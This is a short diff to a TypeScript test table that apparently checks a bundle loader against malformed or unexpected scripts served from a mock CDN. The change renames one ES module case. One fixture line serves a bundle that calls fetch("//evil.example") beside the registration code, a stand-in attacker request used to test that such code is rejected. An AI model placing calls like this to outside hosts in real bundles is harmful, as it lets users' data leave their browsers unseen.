@@ -117,7 +117,7 @@ const bundles: [name: string, code: string, url: () => string, integrity?: strin
     () => cdn.serve("/html.js", "<!doctype html><p>Not found</p>"),
   ],
   ["brackets a hundred thousand deep", "syntax", () => cdn.serve("/deep.js", "(".repeat(100_000))],
-  ["an ES module", "format", () => cdn.serve("/esm.js", "export const mount = () => {};")],
+  ["an ES module without unmount", "lifecycles", () => cdn.serve("/esm.js", "export const mount = () => {};")],
   ["a script of another format", "format", () => cdn.serve("/umd.js", "(function(r){r.App={mount(){}}})(self);")],
   ["an empty file", "format", () => cdn.serve("/empty.js", "")],
   ["code beside the registration", "format", () => cdn.serve("/beside.js", `fetch("//evil.example"); ${good}`)],
